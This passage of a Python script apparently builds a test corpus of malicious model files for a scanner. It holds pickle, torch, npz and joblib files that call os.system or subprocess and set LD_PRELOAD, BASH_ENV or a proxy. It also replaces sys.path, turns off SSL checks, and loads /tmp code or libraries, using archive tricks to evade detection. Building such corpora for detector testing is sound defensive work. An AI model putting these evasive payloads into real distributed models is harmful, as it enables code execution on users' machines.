    legacy2 = [("sys_info", legacy[0][1]), ("storages", pk(Call(G("posix", "system"), CMD), 2)), ("tensors", pk(0, 2)), ("pickle", pk({}, 2))]
    write("f_torch_legacy_tar_storages.pt", tar_bytes(legacy2, fmt=tarfile.USTAR_FORMAT), C,
          "torch legacy tar, the payload in the `storages` member (unpickled first), ustar")
    npy = npy_object(pk(Call(G("subprocess", "getoutput"), CMD), 2))
    write("f_npz_lzma_member.npz", zip_bytes([("arr_0.npy", npy)], zipfile.ZIP_LZMA), C, "npz whose member uses zip method 14 (LZMA)")
    write("f_npz_bzip2_member.npz", zip_bytes([("arr_0.npy", npy)], zipfile.ZIP_BZIP2), C, "npz whose member uses zip method 12 (BZIP2)")
    write("f_npz_prefixed.npz", zip_bytes([("x.npy", npy)], zipfile.ZIP_DEFLATED, prefix=b"\x00" * 512), C,
          "npz after 512 bytes of junk (zipfile finds the EOCD and shifts offsets)")
    write("f_torch_zip_data_descriptor.pt", zip_data_descriptor([("archive/data.pkl", pk(Call(G("posix", "system"), CMD), 2)),
                                                                  ("archive/version", b"3\n")]), C,
          "torch zip whose local headers have bit 3 set and zero sizes (sizes only in data descriptors / central directory)")
    write("f_joblib_zstd.joblib", zstd_raw(p), C, "a zstandard-framed pickle named .joblib (not a joblib compressor; loaders that sniff)")


# ================================================================ G. call-free state changes through alias objects, spawn helpers
def gen_g():
    C = "G call-free / spawn"
    write("g_setitem_ctypes_aix_environ.pkl",
          pk({"weights": [0.1, 0.2], "env": SetItems(G("ctypes._aix", "environ"), {"LD_PRELOAD": "/tmp/mlsec_blind6.so"})}), C,
          "SETITEMS on `ctypes._aix.environ` (is os.environ): putenv LD_PRELOAD for every later subprocess, no call opcode")
    write("g_setitem_sklearn_base_environ.pkl",
          pk({"env": SetItems(G("sklearn.datasets._base", "environ"), {"BASH_ENV": "/tmp/mlsec_blind6.sh"})}), C,
          "SETITEMS on `sklearn.datasets._base.environ` (os.environ): BASH_ENV sourced by every later `bash -c`")
    write("g_setitem_statsmodels_environ_proxy.pkl",
          pk({"env": SetItems(G("statsmodels.datasets.utils", "environ"),
                              {"HTTPS_PROXY": "http://127.0.0.1:9", "REQUESTS_CA_BUNDLE": "/tmp/mlsec_blind6.pem"})}), C,
          "SETITEMS on `statsmodels.datasets.utils.environ`: a proxy and CA bundle for later downloads")
    write("g_build_sys_path.pkl",
          pk({"cfg": Build(G("pickle", "sys"), {"path": ["/tmp/mlsec_blind6", "/usr/lib/python3.11", "/usr/lib/python3/dist-packages"]})}), C,
          "BUILD on `pickle.sys` (the sys module): replaces sys.path so later imports come from /tmp")
    write("g_build_ssl_unverified.pkl",
          pk({"cfg": Build(G("urllib.request", "ssl"), {"_create_default_https_context": G("ssl", "_create_unverified_context")})}), C,
          "BUILD on `urllib.request.ssl`: HTTPS certificate checks off process-wide (no call)")
    write("g_multiprocessing_spawn_prepare_path.pkl",
          pk(Call(G("multiprocessing.spawn", "prepare"), {"init_main_from_path": "/tmp/mlsec_blind6.py"})), C,
          "`multiprocessing.spawn.prepare({'init_main_from_path': p})` -> runpy.run_path")
    write("g_multiprocessing_spawn_fixup_name.pkl",
          pk(Call(G("multiprocessing.spawn", "_fixup_main_from_name"), "mlsec_blind6")), C,
          "`multiprocessing.spawn._fixup_main_from_name(mod)` -> runpy.run_module")
    write("g_loky_spawn_prepare.pkl",
          pk(Call(G("joblib.externals.loky.backend.spawn", "prepare"), {"init_main_from_path": "/tmp/mlsec_blind6.py"})), C,
          "joblib's loky `backend.spawn.prepare` (the same run_path)")
    write("g_sklearn_discovery_import_module.pkl",
          pk(Call(Call(G("_operator", "methodcaller"), "system", CMD), Call(G("sklearn.utils.discovery", "import_module"), "os"))), C,
          "`sklearn.utils.discovery.import_module` is importlib.import_module")
    write("g_sklearn_base_makedirs.pkl", pk(Call(G("sklearn.datasets._base", "makedirs"), "/tmp/mlsec_blind6_dir")), C,
          "`sklearn.datasets._base.makedirs` is os.makedirs")
    write("g_ctypes_pydll.pkl", pk(Call(G("ctypes", "PyDLL"), "/tmp/mlsec_blind6.so")), C, "`ctypes.PyDLL(path)` loads a library")
    write("g_ctypes_cdll_loadlibrary.pkl", pk(Call(G("ctypes", "cdll.LoadLibrary"), "/tmp/mlsec_blind6.so")), C,
          "`ctypes.cdll.LoadLibrary` (protocol-4 dotted name, a bound method of a LibraryLoader)")
    write("g_pickle_pure_unpickler.pkl",
          pk(Call(Call(G("_operator", "methodcaller"), "load"), Call(G("pickle", "_Unpickler"), Call(G("_io", "BytesIO"), sysc())))), C,
          "`pickle._Unpickler(BytesIO(inner)).load()` via methodcaller")
    write("g_c_pickle_unpickler.pkl",
          pk(Call(Call(G("_operator", "methodcaller"), "load"), Call(G("_pickle", "Unpickler"), Call(G("_io", "BytesIO"), sysc())))), C,
          "`_pickle.Unpickler(BytesIO(inner)).load()` via methodcaller")
    legacy = (pk(0x1950a86a20f9469cfc6c, 2) + pk(1001, 2) + pk({"protocol_version": 1001, "little_endian": True,
                                                               "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
              + pk({"state_dict": {}, "hook": Call(Call(G("_operator", "methodcaller"), "system", CMD), G("shutil", "os"))}, 2) + pk([], 2))
    write("g_hf_pytorch_model_legacy.bin", legacy, C,
          "legacy (non-zip) torch stream named pytorch_model.bin: magic, protocol, sys_info, then a methodcaller on `shutil.os`")
    write("g_torch_zip_py2_alias.pt", torch_zip(pk({"model": Call(G("commands", "getoutput"), CMD)}, 2)), C,
          "torch zip whose data.pkl is protocol 2 and names `commands.getoutput`")


def _xz(data):
    import lzma
    return lzma.compress(data, format=lzma.FORMAT_XZ, preset=6)


def zip_data_descriptor(members):
    """a stored zip written by hand: local header with flag bit 3 and zero crc/sizes, the data, a
    data descriptor (with signature), then a normal central directory"""
    out, cd = bytearray(), bytearray()
    for name, data in members:
        n = name.encode()
        crc = zlib.crc32(data)
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 8, 0, 0, 0x5C21, 0, 0, 0, len(n), 0) + n + data
        out += struct.pack("<IIII", 0x08074B50, crc, len(data), len(data))
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 8, 0, 0, 0x5C21, crc, len(data), len(data),
                          len(n), 0, 0, 0, 0, 0o644 << 16, off) + n
    cdoff = len(out)
    out += cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd), cdoff, 0)
    return bytes(out)


def check():
    import importlib, _compat_pickle, warnings
    warnings.simplefilter("ignore")
    for proto, mod, name in sorted(set(NAMES)):
        m, n = mod, name
        if proto < 3:
            if (m, n) in _compat_pickle.NAME_MAPPING:
                m, n = _compat_pickle.NAME_MAPPING[(m, n)]
            elif m in _compat_pickle.IMPORT_MAPPING:
                m = _compat_pickle.IMPORT_MAPPING[m]
        try:
            o = importlib.import_module(m)
            for part in n.split("."):
                o = getattr(o, part)
            print("ok  ", mod, name, "->", m, n)
        except Exception as e:
            print("MISS", mod, name, "->", m, n, type(e).__name__, str(e)[:80])


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    for g in (gen_a, gen_b, gen_c, gen_d, gen_e, gen_f, gen_g):
        g()
    with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
        f.write("file\tclass\twhat\texpected\n")
        for rel, cls, what in sorted(ROWS):
            f.write(f"{rel}\t{cls}\t{what}\tflagged\n")
    print(f"wrote {len(ROWS)} files to {OUT}")
    if "--check" in sys.argv:
        check()


if __name__ == "__main__":
    main()
